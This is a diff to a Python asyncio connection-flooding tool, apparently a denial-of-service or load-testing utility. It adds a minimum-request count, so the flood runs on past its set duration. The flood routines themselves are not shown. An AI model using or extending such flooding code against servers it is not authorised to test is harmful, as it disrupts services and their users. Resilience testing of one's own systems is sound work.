@@ -44,6 +44,8 @@ class Orders:
     """Local TCP address from which to connect. If it is empty, the kernel chooses one."""
     pause_s: float = 0.0
     """Pause, in seconds, between one connection and the next."""
+    min_requests: int = 0
+    """Number of requests until which the flood goes on after its time is over."""
 
 
 @dataclass
@@ -215,12 +217,13 @@ FLOODS: dict[str, Callable[[Wire], Awaitable[None]]] = {
 
 
 async def attack(orders: Orders, report: Report) -> None:
-    """Keep the given number of attacking connections active until the time is over."""
+    """Keep the given number of attacking connections active until the time is over and enough requests have
+    been sent."""
     ends_at = time.monotonic() + orders.seconds
     flood = FLOODS[orders.flood]
 
     async def client() -> None:
-        while time.monotonic() < ends_at:
+        while True:
             with contextlib.suppress(OSError, TimeoutError):
                 await connect_and_attack()
             await asyncio.sleep(orders.pause_s)
@@ -243,8 +246,13 @@ async def attack(orders: Orders, report: Report) -> None:
             report.connections += 1
             await flood(Wire(orders, report, sock, ends_at))
 
-    tasks = [asyncio.create_task(client()) for _ in range(orders.connections)]
-    await asyncio.wait(tasks, timeout=orders.seconds)
+    async def end() -> None:
+        await asyncio.sleep(orders.seconds)
+        while report.requests < orders.min_requests:
+            await asyncio.sleep(0.1)
+
+    tasks = [asyncio.create_task(end()), *(asyncio.create_task(client()) for _ in range(orders.connections))]
+    await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
     for task in tasks:
         task.cancel()
     for result in await asyncio.gather(*tasks, return_exceptions=True):
